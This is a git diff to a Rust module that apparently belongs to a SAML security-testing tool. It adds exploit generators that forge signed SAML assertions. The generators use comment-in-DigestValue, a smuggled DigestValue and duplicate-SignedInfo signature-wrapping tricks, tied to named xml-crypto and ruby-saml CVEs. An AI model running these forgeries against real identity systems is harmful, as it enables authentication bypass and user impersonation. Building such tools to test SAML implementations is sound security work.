@@ -3,18 +3,19 @@
 use crate::bytes::{
     after_start_tag, before_end_tag, child, insert, splice, Doc, Edits, DSIG_NS, PROTOCOL_NS,
 };
-use crate::crypto::{reference_digest, seed_digest_method};
-use crate::family::{forged, Parts};
+use crate::crypto::{reference_digest, seed_digest_method, signed_info};
+use crate::family::{evil_id, forged, Parts};
 use crate::forge::{Forge, Forged, Skip};
 use crate::identity;
 
 const PLACEHOLDER: &str = "FORGED_DIGEST_PLACEHOLDER";
 
 /// The Assertion forged in place (Signature kept); `extra` adds edits; then `PLACEHOLDER`
-/// becomes the digest of the forged Assertion.
+/// becomes the digest of the forged Assertion (whose ID is then `id`).
 fn with_forged_digest(
     f: &Forge,
     extra: &dyn Fn(&Parts) -> Result<Edits, Skip>,
+    id: &dyn Fn(&Parts) -> String,
 ) -> Result<Forged, Skip> {
     let doc = Doc::parse(f.seed)?;
     let p = Parts::of(&doc)?;
@@ -24,37 +25,91 @@ fn with_forged_digest(
         identity::rewrite_edits(&doc, p.assertion.range(), &identity::target_of);
     edits.extend(extra(&p)?);
     let xml = splice(doc.src, edits);
-    let digest = reference_digest(&xml, p.assertion_id(), method)?;
+    let digest = reference_digest(&xml, &id(&p), method)?;
     forged(xml.replace(PLACEHOLDER, &digest), swap)
 }
 
 /// `<DigestValue><!--H(forged)-->H(original)</DigestValue>` (xml-crypto CVE-2025-29775).
 pub fn comment_in_digest_value(f: &Forge) -> Result<Forged, Skip> {
-    with_forged_digest(f, &|p| {
-        let dv = p
-            .assertion_sig
-            .and_then(|s| {
-                s.descendants()
-                    .find(|n| n.has_tag_name((DSIG_NS, "DigestValue")))
-            })
-            .ok_or_else(|| Skip("the Assertion's Signature has no DigestValue".into()))?;
-        Ok(vec![insert(
-            after_start_tag(p.doc.src, dv),
-            format!("<!--{PLACEHOLDER}-->"),
-        )])
-    })
+    with_forged_digest(
+        f,
+        &|p| {
+            let dv = p
+                .assertion_sig
+                .and_then(|s| {
+                    s.descendants()
+                        .find(|n| n.has_tag_name((DSIG_NS, "DigestValue")))
+                })
+                .ok_or_else(|| Skip("the Assertion's Signature has no DigestValue".into()))?;
+            Ok(vec![insert(
+                after_start_tag(p.doc.src, dv),
+                format!("<!--{PLACEHOLDER}-->"),
+            )])
+        },
+        &|p| p.assertion_id().to_owned(),
+    )
 }
 
 /// A second `ds:DigestValue` holding H(forged) earlier in document order, in StatusDetail
 /// (ruby-saml CVE-2024-45409: `//ds:DigestValue` searched the whole document).
 pub fn digest_value_smuggled(f: &Forge) -> Result<Forged, Skip> {
-    with_forged_digest(f, &|p| {
-        let status = child(p.root, PROTOCOL_NS, "Status")
-            .ok_or_else(|| Skip("the seed has no Status".into()))?;
-        let detail = format!(
+    with_forged_digest(
+        f,
+        &|p| {
+            let status = child(p.root, PROTOCOL_NS, "Status")
+                .ok_or_else(|| Skip("the seed has no Status".into()))?;
+            let detail = format!(
                 "<samlp:StatusDetail xmlns:samlp=\"{PROTOCOL_NS}\"><ds:Reference xmlns:ds=\"{DSIG_NS}\" URI=\"#{}\"><ds:DigestValue>{PLACEHOLDER}</ds:DigestValue></ds:Reference></samlp:StatusDetail>",
                 p.assertion_id()
             );
-        Ok(vec![insert(before_end_tag(p.doc.src, status), detail)])
-    })
+            Ok(vec![insert(before_end_tag(p.doc.src, status), detail)])
+        },
+        &|p| p.assertion_id().to_owned(),
+    )
+}
+
+/// A second SignedInfo referencing the forged Assertion (new ID) after the original one; the
+/// original Assertion kept byte-exact in a wrapper (xml-crypto CVE-2025-29774).
+pub fn multiple_signed_info(f: &Forge) -> Result<Forged, Skip> {
+    with_forged_digest(
+        f,
+        &|p| {
+            let sig = p.need_assertion_sig()?;
+            let si = signed_info(sig).ok_or_else(|| Skip("no SignedInfo".into()))?;
+            let evil = evil_id(p.assertion_id());
+            let second = second_signed_info(p.doc.outer(si), p.assertion_id(), &evil)?;
+            let id = crate::bytes::attr_value(p.assertion, "ID")
+                .ok_or_else(|| Skip("the Assertion has no ID".into()))?;
+            Ok(vec![
+                (id, evil),
+                insert(si.range().end, second),
+                insert(
+                    before_end_tag(p.doc.src, p.root),
+                    format!("<a>{}</a>", p.doc.outer(p.assertion)),
+                ),
+            ])
+        },
+        &|p| evil_id(p.assertion_id()),
+    )
+}
+
+/// A copy of SignedInfo whose Reference points at `#evil`, its digest the placeholder.
+fn second_signed_info(original: &str, id: &str, evil: &str) -> Result<String, Skip> {
+    let wrapped = crate::bytes::wrap_namespaces(original);
+    let doc = Doc::parse(&wrapped)?;
+    let dv = doc
+        .tree
+        .descendants()
+        .find(|n| n.is_element() && n.tag_name().name() == "DigestValue")
+        .ok_or_else(|| Skip("SignedInfo has no DigestValue".into()))?;
+    let edited = splice(
+        &wrapped,
+        vec![(
+            after_start_tag(&wrapped, dv)..before_end_tag(&wrapped, dv),
+            PLACEHOLDER.into(),
+        )],
+    );
+    let start = crate::bytes::wrap_namespaces("").len() - "</w>".len();
+    let inner = &edited[start..edited.len() - "</w>".len()];
+    Ok(inner.replace(&format!("URI=\"#{id}\""), &format!("URI=\"#{evil}\"")))
 }
